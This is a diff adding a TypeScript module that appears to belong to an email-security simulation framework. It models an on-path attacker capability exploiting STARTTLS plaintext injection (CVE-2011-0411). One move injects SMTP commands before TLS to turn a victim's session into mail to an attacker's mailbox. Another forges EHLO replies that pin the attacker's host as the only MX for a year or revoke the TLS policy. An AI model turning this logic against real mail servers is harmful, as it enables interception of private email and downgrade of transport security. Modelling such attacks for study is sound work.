@@ -1,0 +1,90 @@
+/** Between the Sending MTA and its MX hosts: sends lines before the handshake that an end takes for said over TLS. RFC 3207 §4.2, CVE-2011-0411. */
+import { Schema } from "effect"
+import { maxMaxAgeSeconds, writePolicy } from "../../protocol/ehlo-policy/policy.ts"
+import { parameter } from "../../protocol/parameter.ts"
+import { requireTlsKeyword } from "../../protocol/require-tls/require-tls.ts"
+import { type Command, writeCommand } from "../../protocol/smtp/command.ts"
+import { writeExtensions } from "../../protocol/smtp/extensions.ts"
+import { writeReply } from "../../protocol/smtp/reply.ts"
+import type { LineVerdict } from "../../world/crossing.ts"
+import type { Arsenal } from "../arsenal.ts"
+import { capability, type Move } from "../capability.ts"
+
+const lessons = ["attackers-host-only", "no-policy"] as const
+
+export const smtpInject = capability({
+  id: "smtp-inject",
+  title: "send plaintext before TLS to an end that keeps it and takes it for said over TLS",
+  parameters: Schema.Struct({
+    teaches: parameter(
+      Schema.Array(Schema.Literals(lessons)).annotate({
+        description:
+          "what an injected EHLO reply says of a TLS policy: that only the attacker's host may take mail, for a year; or that there is none any more"
+      }),
+      [...lessons]
+    )
+  }),
+
+  menu: ({ teaches }, arsenal) => ({
+    // Whoever injects sees the command in clear, and need not stop anything.
+    line: ({ position, direction, line, overTls, from, to }) => {
+      const isStartTls = direction === "to server" && !overTls && /^STARTTLS\b/i.test(line)
+      if (position !== "sender to mx host" || !isStartTls) return []
+      return [
+        ...(arsenal.keepsPlaintext.server(to) ? takeText(arsenal) : []),
+        ...(arsenal.keepsPlaintext.sender(from)
+          ? teaches.map((lesson) => teach(lesson, arsenal.hostAt(to) ?? to, arsenal))
+          : [])
+      ]
+    }
+  })
+})
+
+/**
+ * The client's session becomes the text of a mail to a mailbox of the attacker's at the same server. As many replies come of these commands
+ * as the client waits for, so that it does not notice: to EHLO, MAIL, RCPT and DATA.
+ */
+const takeText = ({ tenantMailbox, mxHost }: Arsenal): ReadonlyArray<Move<LineVerdict>> => {
+  if (tenantMailbox === undefined) return []
+  const commands: ReadonlyArray<Command> = [
+    { _tag: "EHLO", clientName: mxHost },
+    { _tag: "MAIL", reversePath: tenantMailbox, parameters: [] },
+    { _tag: "RCPT", forwardPath: tenantMailbox, parameters: [] },
+    { _tag: "DATA" }
+  ]
+  return [
+    {
+      does: `inject commands before TLS: the session becomes a mail to ${tenantMailbox}`,
+      verdict: { _tag: "Inject", toServer: commands.map(writeCommand), toClient: [] },
+      alsoSpends: ["cotenant"]
+    }
+  ]
+}
+
+/** All replies up to that to the text: one too few or too many, and the client would see an error. The server hears a session as any other. */
+const teach = (
+  lesson: (typeof lessons)[number],
+  serverName: string,
+  { mxHost }: Arsenal
+): Move<LineVerdict> => {
+  const policy =
+    lesson === "no-policy"
+      ? // RFC 6797 §6.1.1: 0 takes a policy back.
+        writePolicy({ mode: "none", maxAgeSeconds: 0, mx: [], pins: [] })
+      : writePolicy({ mode: "enforce", maxAgeSeconds: maxMaxAgeSeconds, mx: [mxHost], pins: [] })
+  const extensions = [{ keyword: requireTlsKeyword, parameters: [] }, ...policy]
+  return {
+    does: `inject replies before TLS: ${lesson === "no-policy" ? "there is no policy any more" : `mail is for ${mxHost} alone`}`,
+    verdict: {
+      _tag: "Inject",
+      toServer: [],
+      toClient: [
+        { code: 250, lines: writeExtensions({ serverName, lines: extensions }) },
+        { code: 250, lines: ["sender OK"] },
+        { code: 250, lines: ["recipient OK"] },
+        { code: 354, lines: ["go on"] },
+        { code: 250, lines: ["OK"] }
+      ].flatMap(writeReply)
+    }
+  }
+}
